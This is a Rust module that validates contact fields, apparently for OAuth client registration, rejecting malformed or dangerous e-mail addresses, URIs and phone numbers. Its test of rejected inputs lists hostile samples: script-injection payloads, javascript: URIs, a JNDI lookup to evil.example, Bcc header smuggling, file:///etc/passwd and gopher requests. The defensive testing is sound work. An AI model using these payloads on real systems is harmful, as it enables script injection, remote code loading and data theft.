//! Whether a text reads as a way to reach people, and holds nothing that harms who reads or opens it: an address with or without a name
//! or a comment, a URI that reaches somebody, a telephone number, plain words. Whether it reaches anybody is not for us to say.

use crate::policy::printable;
use crate::registration::redirect_uri::is_forbidden_scheme;

/// The schemes and labels that are written before what reaches somebody.
const WAYS: [&str; 34] = [
    "acct", "callto", "discord", "e-mail", "email", "fax", "github", "gitlab", "http", "https", "im", "irc", "ircs",
    "mail", "mailto", "mastodon", "matrix", "mobile", "msteams", "phone", "signal", "sip", "sips", "skype", "slack",
    "sms", "smsto", "tel", "telegram", "tg", "twitter", "viber", "whatsapp", "xmpp",
];

/// Those of them that are telephones.
const TELEPHONES: [&str; 7] = ["callto", "fax", "mobile", "phone", "sms", "smsto", "tel"];

/// The fields of a `mailto` URI that only write a message; the others send it to more people (RFC 6068 §7).
const HARMLESS_FIELDS: [&str; 2] = ["subject", "body"];

const REACHES_NOBODY: &str =
    "holds a URI that reaches nobody: name an e-mail address, a telephone number, a page, or plain words";
const NO_ADDRESS: &str = "holds an e-mail address that is none: write somebody@example.com, one in each entry";
const NO_URL: &str = "holds a URL without a host: write https://example.com/support";
const NO_NUMBER: &str = "holds a telephone number of less than three digits";
const USER_INFORMATION: &str = "holds a URL with user information (RFC 9110 §4.2.4)";
const LINE_BREAK: &str = "holds an encoded line break";

/// Why the text, which has no spaces at its ends, is no way to reach people: the end of a sentence that begins with the text.
pub(super) fn problem(text: &str) -> Option<String> {
    if let Some((local, host)) = text.strip_prefix('"').and_then(|text| text.split_once("\"@")) {
        return printable::problem(local)
            .or_else(|| (!is_quotable(local) || !is_host(host)).then(|| NO_ADDRESS.to_owned()));
    }
    let (words, address) = named_address(text).map_or((text, None), |(name, address)| (name, Some(address)));
    if let Some(problem) = printable::problem(words) {
        return Some(problem);
    }
    if !is_quotable(words) {
        return Some("holds a character of markup or quoting (< > \" \\ { })".to_owned());
    }
    let count = |is: fn(char) -> bool| words.chars().filter(|c| is(*c)).count();
    let mut addresses = usize::from(address.is_some());
    for word in words.split_whitespace() {
        let place = if word == text { Place::Alone } else { Place::AmongOthers };
        match read(word, place) {
            // `tel:+49 30 123456`: people write a number in groups.
            Err(NO_NUMBER) if begins_a_number(word) && count(|c| c.is_ascii_digit()) >= 3 => {}
            Err(problem) => return Some(problem.to_owned()),
            Ok(Word::Address) => addresses += 1,
            Ok(Word::Other) => {}
        }
    }
    if addresses > 1 {
        Some("holds more than one address: give each an entry of its own".to_owned())
    } else if address.is_none() && count(char::is_alphabetic) < 2 && count(char::is_numeric) < 3 {
        Some("names nobody: write an e-mail address, a telephone number, a page, or plain words".to_owned())
    } else {
        None
    }
}

/// What a word of a contact is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Word {
    Address,
    Other,
}

/// Where a word stands.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Place {
    /// It is the whole text, or what stands in brackets: somebody may make a link of it as it is.
    Alone,
    /// Beside other words.
    AmongOthers,
}

/// The name and the address of `Somebody <somebody@example.com>` (RFC 5322 §3.4); the name may be in quotes, or missing.
fn named_address(text: &str) -> Option<(&str, &str)> {
    let (name, address) = text.strip_suffix('>')?.rsplit_once('<')?;
    let is_plain =
        is_quotable(address) && !address.contains(char::is_whitespace) && printable::problem(address).is_none();
    let is_read = is_plain && read(address, Place::Alone).is_ok() && address.contains(['@', ':']);
    let name = name.trim();
    let unquoted = name.strip_prefix('"').and_then(|name| name.strip_suffix('"')).unwrap_or(name);
    is_read.then_some((unquoted, address))
}

/// Nothing that marks up, quotes or ends a quotation: a page may hold it in an attribute.
fn is_quotable(text: &str) -> bool {
    !text.contains(['<', '>', '"', '\\', '{', '}'])
}

/// What the word is, or why it harms or reaches nobody.
fn read(word: &str, place: Place) -> Result<Word, &'static str> {
    let word = word.trim_start_matches(['(', '[', '\'', ',', ';']);
    if word.starts_with("//") {
        return Err(NO_URL);
    }
    if let Some((scheme, rest)) = scheme_of(word) {
        if is_trap(&scheme) && (!rest.is_empty() || scheme.ends_with("script")) {
            return Err(REACHES_NOBODY);
        }
        if rest.is_empty() && scheme == "mailto" {
            return Err(NO_ADDRESS);
        }
        if !rest.is_empty() {
            return if WAYS.contains(&scheme.as_str()) { read_uri(&scheme, rest) } else { read_labelled(rest, place) };
        }
    } else if word.contains("://") {
        return Err(REACHES_NOBODY);
    }
    let word = word.trim_end_matches(['.', ',', ';', ':', '!', '?', ')', '\'']);
    let word = if word.contains("@[") { word } else { word.trim_end_matches(']') };
    match word.strip_prefix('@') {
        Some("") => Ok(Word::Other),
        Some(handle) => {
            if is_handle(handle) {
                Ok(Word::Other)
            } else {
                Err(NO_ADDRESS)
            }
        }
        None if !word.contains('@') => Ok(Word::Other),
        None => {
            if is_address(word) {
                Ok(Word::Address)
            } else {
                Err(NO_ADDRESS)
            }
        }
    }
}

/// Whether a contact with this scheme, which somebody makes a link of, runs or shows what stands in it, opens files or starts a program that
/// reaches nobody.
fn is_trap(scheme: &str) -> bool {
    is_forbidden_scheme(scheme) && !WAYS.contains(&scheme)
}

/// Whether the first group of a number stands behind a telephone's scheme, and nothing else.
fn begins_a_number(word: &str) -> bool {
    scheme_of(word).is_some_and(|(_, rest)| {
        rest.contains(|c: char| c.is_ascii_digit()) && rest.chars().all(|c| c.is_ascii_digit() || "+()-./".contains(c))
    })
}

/// A word with something before a colon that is no scheme we know: `Security:ops@example.com`, or a URI of another kind.
fn read_labelled(rest: &str, place: Place) -> Result<Word, &'static str> {
    let reaches =
        place == Place::AmongOthers || rest.contains('@') || rest.chars().filter(char::is_ascii_digit).count() >= 3;
    if rest.starts_with('/') || !reaches { Err(REACHES_NOBODY) } else { read(rest, place) }
}

fn read_uri(scheme: &str, rest: &str) -> Result<Word, &'static str> {
    let lower_case = rest.to_ascii_lowercase();
    if ["%00", "%0a", "%0d"].iter().any(|code| lower_case.contains(code)) {
        return Err(LINE_BREAK);
    }
    if scheme_of(rest).is_some_and(|(scheme, _)| is_trap(&scheme)) {
        return Err(REACHES_NOBODY);
    }
    let part =
        |text: &'static str| move |rest: &str| rest.split(|c| text.contains(c)).next().unwrap_or_default().to_owned();
    match scheme {
        "http" | "https" => {
            let authority = part("/?#")(rest.strip_prefix("//").ok_or(NO_URL)?);
            if authority.contains('@') {
                Err(USER_INFORMATION)
            } else if authority.starts_with(|c: char| c.is_alphanumeric() || c == '[') && !authority.contains('%') {
                Ok(Word::Other)
            } else {
                Err(NO_URL)
            }
        }
        "mailto" => {
            let (address, fields) = rest.split_once('?').unwrap_or((rest, ""));
            let is_harmless = |field: &str| {
                field.is_empty()
                    || field
                        .split_once('=')
                        .is_some_and(|(name, _)| HARMLESS_FIELDS.iter().any(|known| name.eq_ignore_ascii_case(known)))
            };
            if !is_address(address) {
                Err(NO_ADDRESS)
            } else if fields.split('&').all(is_harmless) {
                Ok(Word::Address)
            } else {
                Err("holds a mailto URI with more than a subject and a body (RFC 6068 §7)")
            }
        }
        _ if TELEPHONES.contains(&scheme) => {
            if rest.chars().filter(char::is_ascii_digit).count() >= 3 {
                Ok(Word::Other)
            } else {
                Err(NO_NUMBER)
            }
        }
        _ => {
            let who = part("/?;#,")(rest.strip_prefix("//").unwrap_or(rest));
            let who = without_port(&who);
            let is_read = !who.contains('@') || is_address(who) || who.strip_prefix('@').is_some_and(is_handle);
            if is_read { Ok(Word::Other) } else { Err(NO_ADDRESS) }
        }
    }
}

/// What stands before the first colon, in small letters, when it can be a scheme (RFC 3986 §3.1), and what stands behind it.
fn scheme_of(word: &str) -> Option<(String, &str)> {
    let (scheme, rest) = word.split_once(':')?;
    let is_scheme = scheme.starts_with(|c: char| c.is_ascii_alphabetic())
        && scheme.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'));
    is_scheme.then(|| (scheme.to_ascii_lowercase(), rest))
}

/// `ops`, or with a server `ops:example.com` and `ops@example.social`, as they are written behind an `@`.
fn is_handle(text: &str) -> bool {
    let is_name = |name: &str, more: &[char]| {
        !name.is_empty() && name.chars().all(|c| c.is_alphanumeric() || matches!(c, '_' | '-') || more.contains(&c))
    };
    match text.split_once([':', '@']) {
        Some((name, server)) => is_name(name, &['.', '=', '/', '+']) && is_host(without_port(server)),
        None => is_name(text, &[]),
    }
}

fn without_port(text: &str) -> &str {
    text.rsplit_once(':')
        .filter(|(_, port)| port.chars().all(|c| c.is_ascii_digit()))
        .map_or(text, |(before, _)| before)
}

fn is_address(text: &str) -> bool {
    let Some((local, host)) = text.rsplit_once('@') else { return false };
    !local.is_empty() && !local.contains(['@', ',', ';', ':', '(', ')', '[', ']']) && is_host(host)
}

/// A host name, or an address in brackets (RFC 5321 §4.1.3).
fn is_host(text: &str) -> bool {
    if let Some(literal) = text.strip_prefix('[').and_then(|text| text.strip_suffix(']')) {
        return !literal.is_empty() && literal.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | ':'));
    }
    text.split('.').all(|label| !label.is_empty() && label.chars().all(|c| c.is_alphanumeric() || c == '-'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn whatever_reaches_people_passes() {
        for contact in [
            "ve7jtb@example.org",
            "mary.o'neil+oauth@dev.example.com",
            "mailto:ops@example.com",
            "mailto:a@example.com?subject=OAuth",
            "MAILTO:a@example.com?subject=OAuth%20client&body=Hello",
            "https://example.com/support?x=1",
            "https://münchen.example/",
            "https://[2001:db8::1]/",
            "http://example.com:8080/a@b",
            "jürgen@münchen.example",
            "root@localhost",
            "a@[192.0.2.1]",
            "\"john doe\"@example.com",
            "tel:+49-89-1234",
            "tel:911",
            "tel:+49 30 123456",
            "Phone:(0) 30 123456",
            "sms:+15551234567",
            "sip:ops@example.com",
            "sip:ops@example.com:5060;transport=tls",
            "xmpp:ops@example.com",
            "matrix:u/ops:example.com",
            "irc://irc.example.net/ops",
            "@ops:example.com",
            "@ops@example.social",
            "@ops",
            "#ops:example.com",
            "+49 89 12345",
            "(089) 123-456",
            "+1 555 123 4567 ext. 5",
            "<a@example.com>",
            "<mailto:a@example.com>",
            "Jane<a@example.com>",
            "Jane Doe <jane@example.com>",
            "\"Doe, Jane\" <jane@example.com>",
            "Jürgen Müller <jm@example.com>",
            "a@example.com (Jane)",
            "Security: ops@example.com",
            "Email:ops@example.com",
            "Security:ops@example.com",
            "See https://example.com/contact.",
            "Example Support Team",
            "Data: protection office",
            "Help: ops@example.com",
            "News: https://example.com/news",
            "Team:Support Office",
            "example.com:8443/support",
            "@ops:example.com:8448",
            "ops@example.com Mon-Fri 9:00-17:00",
            "Müller & Söhne",
            "運用チーム",
            "ops at example dot com",
            "www.example.com/contact",
        ] {
            assert_eq!(problem(contact), None, "{contact}");
        }
    }

    #[test]
    fn refuses_what_harms_or_reaches_nobody() {
        for contact in [
            "?",
            "+1",
            "…",
            "@",
            "@example.com",
            "a@",
            "a@example..com",
            "a@exam_ple%0d%0aBcc:b@example.com",
            "ms-msdt:a@example.com",
            "x <shell:a@example.com>",
            "ldap:123",
            "feed:a@example.com",
            "a@example.com,b@example.com",
            "a@example.com, b@example.com",
            "a@example.com\r\nBcc: all@example.com",
            "mailto:a@example.com?bcc=all@example.com",
            "mailto:a@example.com?subject=x%0D%0ABcc:all@example.com",
            "mailto:",
            "Jane <a@example.com> <b@example.com>",
            "<script>alert(1)</script> <a@example.com>",
            "<script>alert(1)</script>",
            "<script>",
            "Jane <javascript:alert(1)>",
            "Jane <nobody>",
            "\" onmouseover=alert(1) x=\"",
            "{{constructor.constructor('x')()}}",
            "${jndi:ldap://evil.example/a}",
            "J\u{202e}ane <a@example.com>",
            "Jane <a\u{202e}@example.com>",
            "x\u{202e}@example.com",
            "\"a\u{202e}b\"@example.com",
            "Support\u{200b} Team",
            "javascript:alert(1)",
            "JavaScript: alert(1)",
            "Team javascript:alert(1)",
            "(javascript:alert(1))",
            "vbscript:x",
            "data:text/html,x",
            "feed:javascript:alert(1)",
            "email:javascript:alert(1)",
            "custom:payload",
            "a@example.com:25",
            "file:///etc/passwd",
            "ftp://example.com/",
            "ms-msdt:/id",
            "gopher://127.0.0.1/",
            "//evil.example/",
            "https://user:pass@evil.example/",
            "https://user@evil.example/",
            "See https://example.com@evil.example/",
            "https:evil.example",
            "https://",
            "https:///evil.example",
            "https://ex%61mple.com/",
            "https://example.com\\@evil.example/",
            "sip:ops:secret@example.com",
            "tel:none",
            "tel:none 123456",
            "tel:+4",
            "[x](javascript:alert(1))",
            "&lt;script&gt;",
        ] {
            assert!(problem(contact).is_some(), "{contact:?}");
        }
    }
}
